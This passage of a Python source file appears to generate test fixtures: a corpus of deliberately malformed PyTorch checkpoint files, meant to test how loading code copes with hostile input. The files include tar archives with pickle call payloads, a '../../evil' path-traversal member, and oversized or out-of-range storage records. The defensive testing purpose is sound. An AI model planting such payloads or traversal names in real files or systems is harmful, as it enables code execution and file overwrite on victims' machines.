    for name, body in SHARD_LIES.items():
        yield f"shard-{name}.pt", checkpoint(b"\x80\x02}S'w'\n" + body + b"s.")


def tars() -> Iterator[tuple[str, bytes]]:
    """The oldest form, with payloads in each of its pickles, and lies."""
    members = {"sys_info": b"(d.", "pickle": b"(d.", "storages": b"I0\n.(l.", "tensors": b"I0\n."}
    for name in members:
        yield f"tar-payload-{name}.pt", tarred({**members, name: CALL + b"."})
    yield "tar-many-storages.pt", tarred({**members, "storages": b"L1000000000000L\n."})
    yield (
        "tar-storage-long.pt",
        tarred({**members, "storages": b"I1\n.(I1\nS'cpu'\nctorch\nFloatStorage\nt." + struct.pack("<q", 2**60)}),
    )
    yield (
        "tar-view-outside.pt",
        tarred(
            {
                **members,
                "storages": b"I1\n.(I1\nS'cpu'\nctorch\nFloatStorage\nt."
                + struct.pack("<q", 0)
                + b"((I2\nI1\nI0\nI9\ntl.",
            }
        ),
    )
    yield "tar-missing.pt", tarred({"sys_info": b"(d.", "pickle": CALL + b"."})
    yield "tar-path.pt", tarred({**members, "../../evil": b"x"})
    yield "tar-size.pt", tarred(members).replace(b"00000000003", b"77777777777")


def tarred(members: dict[str, bytes]) -> bytes:
    """An uncompressed tar archive in memory."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            row = tarfile.TarInfo(name)
            row.size = len(data)
            archive.addfile(row, io.BytesIO(data))
    return held.getvalue()


def corpus() -> dict[str, bytes]:
    """Every hostile file, by name."""
    found: dict[str, bytes] = {}
    for source in (gadgets, tricks, structures, zips, shards, tars):
        for name, data in source():
            name = name.replace("/", "_")
            assert name not in found, name
            found[name] = data
    return found
